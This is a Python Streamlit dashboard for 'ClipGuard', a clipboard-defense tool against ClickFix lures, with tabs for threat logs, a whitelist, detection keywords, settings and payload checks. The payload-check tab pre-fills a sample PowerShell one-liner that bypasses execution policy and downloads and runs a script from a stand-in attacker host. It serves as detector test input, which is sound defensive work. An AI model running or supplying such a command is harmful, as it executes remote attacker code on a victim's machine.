import os
from typing import Dict, List

import requests
import streamlit as st

from clipguard.config import DB_PATH
from clipguard.engine import ClipboardCandidate, default_classifier
from clipguard.reporting import build_json_report, build_pdf_report, build_report, log_card_html, report_filename
from clipguard.storage import SettingsStore


st.set_page_config(
    page_title="ClipGuard — ClickFix Clipboard Defense",
    page_icon="🛡️",
    layout="wide",
)

brand_css = """
<style>
.card {
    padding: 14px 16px;
    border-radius: 12px;
    background: #0b1224;
    color: #e2e8f0;
    border: 1px solid #1f2937;
    margin-bottom: 8px;
}
.pill {
    display: inline-block;
    padding: 4px 10px;
    border-radius: 999px;
    background: linear-gradient(90deg, #f97316, #dc2626);
    color: #0b1021;
    font-weight: 700;
    font-size: 12px;
}
.payload {
    font-family: monospace;
    white-space: pre-wrap;
    word-break: break-all;
    color: #fca5a5;
}
</style>
"""
st.markdown(brand_css, unsafe_allow_html=True)

store = SettingsStore(DB_PATH)
API_URL = os.getenv("CLIPGUARD_API_URL")
API_KEY = os.getenv("CLIPGUARD_API_KEY")


def render_log(index: int, log: Dict):
    st.markdown(log_card_html(log), unsafe_allow_html=True)
    report = build_report(log)
    cols = st.columns(2)
    cols[0].download_button(
        "Download report (JSON)",
        data=build_json_report(report),
        file_name=report_filename(report["timestamp"]),
        mime="application/json",
        key=f"json-{index}",
    )
    cols[1].download_button(
        "Download report (PDF)",
        data=build_pdf_report(report),
        file_name=report_filename(report["timestamp"]).replace(".json", ".pdf"),
        mime="application/pdf",
        key=f"pdf-{index}",
    )


def check_payload(text: str) -> Dict:
    if API_URL:
        headers = {"Authorization": f"Bearer {API_KEY}"} if API_KEY else {}
        resp = requests.post(f"{API_URL}/classify", json={"text": text}, headers=headers, timeout=10)
        resp.raise_for_status()
        return resp.json()
    cfg = store.load_config()
    candidate = ClipboardCandidate(raw_text=text)
    verdict = default_classifier.classify_with(candidate, cfg)
    fired: List = default_classifier.explain(candidate, cfg.keywords, cfg.hardcoded_keywords)
    return {
        "suspicious": verdict.suspicious,
        "matchedRule": verdict.matched_rule,
        "explanation": verdict.explanation,
        "firedRules": [v.matched_rule for v in fired],
    }


st.title("🛡️ ClipGuard — ClickFix Clipboard Defense")
st.caption("Threat log, whitelist and detection settings for the clipboard guard extension.")

tabs = st.tabs(["Threat log", "Whitelist", "Keywords", "Settings", "Check a payload"])

with tabs[0]:
    cols = st.columns([1, 1, 4])
    if cols[0].button("Refresh"):
        st.rerun()
    if cols[1].button("Clear logs"):
        store.clear_logs()
        st.rerun()
    logs = store.list_logs()
    if not logs:
        st.info("No suspicious events logged.")
    for idx, log in enumerate(logs):
        render_log(idx, log)

with tabs[1]:
    new_host = st.text_input("Add hostname", placeholder="example.com")
    if st.button("Add to whitelist"):
        if not new_host.strip():
            st.warning("Enter a hostname (e.g. example.com).")
        else:
            try:
                if store.add_whitelist(new_host):
                    st.success(f"{new_host.strip().lower()} whitelisted.")
                else:
                    st.warning(f"{new_host.strip().lower()} is already whitelisted.")
            except ValueError as exc:
                st.warning(str(exc))
    hosts = store.list_whitelist()
    if not hosts:
        st.info("No sites whitelisted.")
    for host in hosts:
        row = st.columns([4, 1])
        row[0].markdown(f"`{host}`")
        if row[1].button("Remove", key=f"rm-{host}"):
            store.remove_whitelist(host)
            st.rerun()
    if hosts:
        confirm = st.checkbox("I want to clear all whitelist entries")
        if st.button("Clear whitelist", disabled=not confirm):
            store.clear_whitelist()
            st.rerun()

with tabs[2]:
    st.write("One keyword per line. Matching is case-insensitive; built-in protections stay active.")
    area = st.text_area("Custom keywords", value="\n".join(store.list_keywords()), height=200)
    cols = st.columns(2)
    if cols[0].button("Save keywords"):
        saved = store.save_keywords(area)
        st.success(f"Saved {len(saved)} custom keyword(s).")
    if cols[1].button("Reset keywords"):
        store.reset_keywords()
        st.success("Custom keywords cleared. Built-in protections remain active.")
        st.rerun()

with tabs[3]:
    cfg = store.load_config()
    on_screen = st.toggle("Show on-screen alerts", value=cfg.on_screen_alerts)
    hardcoded = st.toggle(
        "Built-in lure keywords (verification, id, #, ...)",
        value=cfg.hardcoded_keywords,
        help="Very broad list; turning it off keeps signature and token-chain rules active.",
    )
    if on_screen != cfg.on_screen_alerts or hardcoded != cfg.hardcoded_keywords:
        store.set_toggles(on_screen_alerts=on_screen, hardcoded_keywords=hardcoded)
        st.success("Settings saved.")

with tabs[4]:
    sample = st.text_area(
        "Clipboard text",
        value='powershell -NoProfile -ExecutionPolicy Bypass -Command "iex (iwr http://evil.test/a.ps1)"',
        height=120,
    )
    if st.button("Check", type="primary"):
        try:
            result = check_payload(sample)
        except requests.RequestException as exc:
            st.error(f"Could not reach the API: {exc}")
        else:
            if result["suspicious"]:
                st.error(f"Suspicious — {result['matchedRule'] or 'flagged'}: {result['explanation']}")
                st.write("Rules that fire: " + ", ".join(r for r in result["firedRules"] if r))
            else:
                st.success("No rule fired.")
